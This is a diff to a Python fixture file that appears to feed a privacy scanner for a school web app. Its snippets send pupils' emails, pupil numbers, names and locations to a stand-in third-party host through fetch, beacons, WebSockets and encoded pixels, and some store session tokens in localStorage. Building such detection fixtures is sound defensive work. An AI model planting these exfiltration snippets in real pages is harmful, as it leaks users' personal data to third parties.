@@ -40,13 +40,17 @@ def _picture(address: str) -> Snippet:
 
 _METER = f"https://{hosts.METER}/melding"
 _KEEP = "keepalive: true"
+# A fetch whose answer nobody reads stays open in the browser for as long as the page lives.
+_READ = ".then((answer) => answer.text())"
 
 _UNDECLARED = {
     "font-undeclared": Snippet(
         "everywhere", f'<link rel="stylesheet" href="https://{hosts.FONT_CSS}/leesletter.css">'
     ),
     "library-undeclared": _file("everywhere", f"https://{hosts.LIBRARY}/hulpjes.js"),
-    "stats-undeclared": _script("everywhere", f'fetch("https://{hosts.STATS}/tel", {{method: "POST", body: "1"}});'),
+    "stats-undeclared": _script(
+        "everywhere", f'fetch("https://{hosts.STATS}/tel", {{method: "POST", body: "1"}}){_READ};'
+    ),
     "redirect-undeclared": Snippet(
         "everywhere", f'<img src="https://{hosts.CDN}/door/teller.gif" alt="" width="1" height="1">'
     ),
@@ -123,7 +127,9 @@ _CONSENT = {
 _LEAKS = {
     "leak-query-plain": _picture(_METER + "?mail={{ me.email }}"),
     "leak-query-encoded": _picture(_METER + "?mail={{ me.email|urlencode }}"),
-    "leak-path": _script("signed-in", f'if (me.pupil_number) fetch("{_METER}/" + me.pupil_number, {{{_KEEP}}});'),
+    "leak-path": _script("signed-in", f"""
+if (me.pupil_number) fetch("{_METER}/" + me.pupil_number, {{{_KEEP}}}){_READ};
+"""),
     "leak-base64": _picture(_METER + "?u={{ me.email|base64|urlencode }}"),
     "leak-base64url": _picture(_METER + "?u={{ me.email|base64url }}"),
     "leak-hex": _picture(_METER + "?u={{ me.email|hex }}"),
@@ -135,13 +141,15 @@ _LEAKS = {
     "leak-json-body": _script("signed-in", f"""
 if (me.pupil_number) {{
   const body = JSON.stringify({{soort: "bezoek", wie: {{nummer: me.pupil_number}}}});
-  fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/json"}}, body, {_KEEP}}});
+  fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/json"}}, body, {_KEEP}}}){_READ};
 }}
 """),
     "leak-form-body": _script("signed-in", f"""
-fetch("{_METER}", {{method: "POST", body: new URLSearchParams({{naam: me.first_name}}), {_KEEP}}});
+fetch("{_METER}", {{method: "POST", body: new URLSearchParams({{naam: me.first_name}}), {_KEEP}}}){_READ};
 """),
-    "leak-header": _script("signed-in", f'fetch("{_METER}", {{headers: {{"x-gebruiker": me.first_name}}, {_KEEP}}});'),
+    "leak-header": _script("signed-in", f"""
+fetch("{_METER}", {{headers: {{"x-gebruiker": me.first_name}}, {_KEEP}}}){_READ};
+"""),
     "leak-beacon": _script("signed-in", f'navigator.sendBeacon("{_METER}", JSON.stringify({{mail: me.email}}));'),
     "leak-websocket": _script("signed-in", f"""
 const line = new WebSocket("wss://{hosts.METER}/stroom");
@@ -150,10 +158,10 @@ line.onopen = () => line.send(JSON.stringify({{mail: me.email}}));
     "leak-gzip": _script("signed-in", f"""
 const packed = new Blob([JSON.stringify({{mail: me.email}})]).stream().pipeThrough(new CompressionStream("gzip"));
 const body = await new Response(packed).arrayBuffer();
-fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/octet-stream"}}, body, {_KEEP}}});
+fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/octet-stream"}}, body, {_KEEP}}}){_READ};
 """),
     "leak-base64-json": _script("signed-in", f"""
-fetch("{_METER}?data=" + encodeURIComponent(btoa(JSON.stringify({{mail: me.email}}))), {{{_KEEP}}});
+fetch("{_METER}?data=" + encodeURIComponent(btoa(JSON.stringify({{mail: me.email}}))), {{{_KEEP}}}){_READ};
 """),
     "leak-cookie": _script("signed-in", f"""
 const first = new Image(), second = new Image();
@@ -169,7 +177,9 @@ _OWN = {
     "mixed-image": Snippet(
         "everywhere", f'<img src="http://{hosts.STATIC}/static/sterren.svg" alt="" width="24" height="24">'
     ),
-    "name-in-query": _script("signed-in", 'fetch("/api/homework?naam=" + encodeURIComponent(me.first_name));'),
+    "name-in-query": _script(
+        "signed-in", f'fetch("/api/homework?naam=" + encodeURIComponent(me.first_name)){_READ};'
+    ),
     "canary-in-storage": _script("signed-in", 'localStorage.setItem("profiel", JSON.stringify(me));'),
     "token-in-storage": _script("signed-in", 'localStorage.setItem("sessie", {{ token|tojson }});'),
     "geo-at-start": _script("start", "navigator.geolocation.getCurrentPosition(() => {}, () => {});"),
@@ -181,7 +191,7 @@ navigator.geolocation.getCurrentPosition(({coords}) => fetch("/api/plaats", {
 """),
     "geo-to-third-party": _script("start", f"""
 navigator.geolocation.getCurrentPosition(({{coords}}) => fetch(
-  `{_METER}?lat=${{coords.latitude}}&lon=${{coords.longitude}}`, {{{_KEEP}}}), () => {{}});
+  `{_METER}?lat=${{coords.latitude}}&lon=${{coords.longitude}}`, {{{_KEEP}}}){_READ}, () => {{}});
 """),
     "camera-at-start": _script("start", "await navigator.mediaDevices.getUserMedia({video: true}).catch(() => {});"),
     "microphone-at-start": _script(
